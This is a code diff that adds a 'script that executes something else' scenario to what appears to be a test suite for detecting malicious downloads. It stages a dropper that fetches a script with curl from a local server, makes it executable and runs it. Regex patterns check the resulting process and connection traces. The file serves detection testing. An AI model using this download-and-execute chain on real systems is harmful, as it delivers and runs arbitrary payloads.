@@ -22,6 +22,16 @@ export const downloads: readonly Scenario[] = [
     beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
   },
   {
+    name: "a script that executes something else",
+    async run(stage) {
+      stage.file("i.sh", `#!/bin/sh\nexec ${stage.payload}\n`);
+      await stage.shell(`curl -s ${stage.served("i.sh")} -o x; chmod +x x; : dropper`);
+      await stage.shell(`./x; : runner`);
+    },
+    chain: [/: dropper/, /curl -s .*\/i\.sh -o x$/, /^\d+ curl -s/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
+  },
+  {
     name: "a decoded download",
     async run(stage) {
       await stage.shell(`echo '${stage.payload}' | base64 -w0 > served; : prepare`);
